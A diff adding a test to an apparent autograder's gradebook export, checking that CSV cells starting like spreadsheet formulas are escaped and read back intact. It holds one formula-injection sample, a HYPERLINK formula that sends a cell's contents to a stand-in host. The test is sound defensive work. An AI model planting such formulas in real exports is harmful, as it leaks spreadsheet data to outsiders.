@@ -133,6 +133,28 @@ def test_roster_marks_missing_and_unknown_students_and_errors_keep_their_row(tmp
         "total", "max_total", "late_days", "penalty", "gpu", "run", "status", "error"]
 
 
+def test_gradebook_cells_never_run_as_formulas(tmp_path):
+    """Text from a hand-in that starts like a spreadsheet formula is written as text (a
+    leading apostrophe); numbers stay numbers; the report reads the original text back."""
+    from graders.report.load import read_gradebook
+
+    attack = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    a = write(tmp_path / "a", result("+bob", "r", "2026-01-01T00:00:00.000000Z", error=attack),
+              result("alice", "r", "2026-01-01T00:00:00.000000Z", passed=ALL))
+    roster = tmp_path / "roster.csv"
+    roster.write_text("id,name\n+bob,@Bob\nalice,-Alice\n")
+    merge([a], tmp_path / "out", roster_path=roster)
+    raw = {row[0]: row for row in csv.reader(open(tmp_path / "out" / "gradebook.csv"))}
+    assert set(raw) == {"student", "'+bob", "alice"}
+    assert raw["'+bob"][1] == "'@Bob" and raw["'+bob"][-1] == "'" + attack
+    assert raw["alice"][1] == "'-Alice"
+    assert all(not cell.startswith(("=", "+", "-", "@")) or cell.lstrip("+-").replace(".", "").isdigit()
+               for row in raw.values() for cell in row)
+    back = read_gradebook(tmp_path / "out")
+    assert set(back) == {"+bob", "alice"}
+    assert back["+bob"]["error"] == attack and back["alice"]["name"] == "-Alice"
+
+
 def test_late_policy_in_one_place():
     deadline = parse_time("2026-12-05T23:59:00+01:00")
     assert late_days(parse_time("2026-12-05T23:30:00Z"), deadline) == 1
